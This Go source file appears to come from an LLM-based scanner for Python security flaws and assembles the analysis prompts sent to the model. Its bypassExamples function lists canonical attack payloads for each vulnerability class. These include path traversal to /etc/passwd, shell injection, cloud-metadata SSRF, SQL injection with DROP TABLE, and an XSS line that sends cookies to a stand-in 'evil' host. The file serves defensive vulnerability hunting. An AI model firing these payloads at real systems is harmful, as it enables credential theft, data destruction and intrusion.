package engine

import (
	"encoding/json"
	"fmt"
	"strings"

	"github.com/vulnhuntr/vulnhuntr/internal/model"
	"github.com/vulnhuntr/vulnhuntr/internal/vulntype"
)

// systemPrompt builds the system message shared by every Session opened
// against a file, seeded with an optional summary of the repository's
// README so the model has project-level orientation.
func systemPrompt(readmeSummary string) string {
	var b strings.Builder
	b.WriteString("You are a static application security analyst specializing in Python source code.\n")
	b.WriteString("You find real, exploitable vulnerabilities by tracing tainted input from an entry point to a dangerous sink.\n")
	b.WriteString("You respond with exactly one JSON object matching the requested schema — no prose before or after it.\n")
	if readmeSummary != "" {
		b.WriteString("\nProject overview:\n")
		b.WriteString(readmeSummary)
		b.WriteString("\n")
	}
	return b.String()
}

const guidelines = `Only report a vulnerability you can trace end-to-end from a user-controlled source to a sink.
Do not speculate about issues you cannot point to in the given code.
If you need to see another function's or class's source to continue, request it by name in context_code.
confidence_score reflects how certain you are this is exploitable, on a 0-10 scale.`

const analysisApproach = `1. Identify entry points reachable from outside the process (routes, handlers, CLI args, deserialized input).
2. Trace each candidate tainted value forward until it reaches a sink (filesystem, shell, network, SQL, template, ORM).
3. Check for sanitization or validation along the path; note explicitly when none exists.
4. For anything you cannot resolve locally (a helper defined elsewhere), request it via context_code.`

const responseFormatInstructions = `Respond with a JSON object with exactly these keys:
scratchpad (string, your reasoning), analysis (string, the finding explanation),
poc (string or null, a proof-of-concept request/input), confidence_score (integer 0-10),
vulnerability_types (array of: LFI, RCE, SSRF, AFO, SQLI, XSS, IDOR),
context_code (array of {name, reason, code_line}, empty if nothing more is needed).`

// buildPhase1Prompt assembles the initial-scan envelope for one file: the
// file's own source plus the fixed instructions/approach/guidelines/
// response_format sections, tagged per the wire-level envelope. alreadyReported
// carries the titles of findings a prior run already recorded for this
// project, if history is enabled, so the model doesn't re-report them.
func buildPhase1Prompt(filePath, fileSource string, alreadyReported []string) string {
	var b strings.Builder
	writeFileCode(&b, filePath, fileSource)
	if len(alreadyReported) > 0 {
		b.WriteString("<already_reported>\n")
		for _, title := range alreadyReported {
			fmt.Fprintf(&b, "<item>%s</item>\n", escapeXML(title))
		}
		b.WriteString("</already_reported>\n")
	}
	b.WriteString("<instructions>\n")
	b.WriteString("Analyze the given file for the vulnerability classes you are trained to detect.\n")
	b.WriteString("</instructions>\n")
	b.WriteString("<analysis_approach>\n")
	b.WriteString(analysisApproach)
	b.WriteString("\n</analysis_approach>\n")
	b.WriteString("<guidelines>\n")
	b.WriteString(guidelines)
	b.WriteString("\n</guidelines>\n")
	b.WriteString("<response_format>\n")
	b.WriteString(responseFormatInstructions)
	b.WriteString("\n</response_format>\n")
	return b.String()
}

// buildPhase2Prompt assembles one iteration's deepening envelope for vuln
// type t: the file's source, every context_code snippet resolved so far,
// the previous iteration's Response JSON, and a short set of canonical
// bypass examples for t.
func buildPhase2Prompt(filePath, fileSource string, t vulntype.Type, ctx []model.ResolvedContext, previous *model.Response) string {
	var b strings.Builder
	writeFileCode(&b, filePath, fileSource)

	b.WriteString("<context_code>\n")
	for _, c := range ctx {
		b.WriteString("<item>")
		fmt.Fprintf(&b, "<name>%s</name>", escapeXML(c.Name))
		fmt.Fprintf(&b, "<file_path>%s</file_path>", escapeXML(c.FilePath))
		fmt.Fprintf(&b, "<source>%s</source>", escapeXML(c.Source))
		b.WriteString("</item>\n")
	}
	b.WriteString("</context_code>\n")

	b.WriteString("<previous_analysis>\n")
	if previous != nil {
		if data, err := json.Marshal(previous); err == nil {
			b.WriteString(escapeXML(string(data)))
		}
	}
	b.WriteString("\n</previous_analysis>\n")

	b.WriteString("<example_bypasses>\n")
	b.WriteString(bypassExamples(t))
	b.WriteString("\n</example_bypasses>\n")

	fmt.Fprintf(&b, "<vulnerability_type>%s</vulnerability_type>\n", t)

	b.WriteString("<instructions>\n")
	b.WriteString("Continue your analysis of this file for ")
	b.WriteString(string(t))
	b.WriteString(" specifically, using any newly resolved context above.\n")
	b.WriteString("If you have everything needed to reach a conclusion, leave context_code empty.\n")
	b.WriteString("</instructions>\n")
	b.WriteString("<response_format>\n")
	b.WriteString(responseFormatInstructions)
	b.WriteString("\n</response_format>\n")

	return b.String()
}

func writeFileCode(b *strings.Builder, filePath, fileSource string) {
	b.WriteString("<file_code>")
	fmt.Fprintf(b, "<file_path>%s</file_path>", escapeXML(filePath))
	fmt.Fprintf(b, "<file_source>%s</file_source>", escapeXML(fileSource))
	b.WriteString("</file_code>\n")
}

func escapeXML(s string) string {
	r := strings.NewReplacer(
		"&", "&amp;",
		"<", "&lt;",
		">", "&gt;",
	)
	return r.Replace(s)
}

// bypassExamples returns a short, illustrative set of canonical exploit
// shapes for t, to ground the model's confidence scoring. These are not
// exhaustive — they orient the model toward real exploitation patterns
// rather than theoretical ones.
func bypassExamples(t vulntype.Type) string {
	switch t {
	case vulntype.LFI:
		return "../../../etc/passwd\n....//....//etc/passwd\n/proc/self/environ"
	case vulntype.RCE:
		return "__import__('os').system('id')\n; id #\n$(id)"
	case vulntype.SSRF:
		return "http://169.254.169.254/latest/meta-data/\nfile:///etc/passwd\ngopher://127.0.0.1:6379/_"
	case vulntype.AFO:
		return "../../etc/cron.d/evil\nsymlink escape outside the intended write root"
	case vulntype.SQLI:
		return "' OR '1'='1\n1; DROP TABLE users--\nUNION SELECT password FROM users"
	case vulntype.XSS:
		return "<script>fetch('//evil/?c='+document.cookie)</script>\n\"><img src=x onerror=alert(1)>"
	case vulntype.IDOR:
		return "incrementing /api/orders/1234 to /api/orders/1235 owned by another account"
	default:
		return ""
	}
}
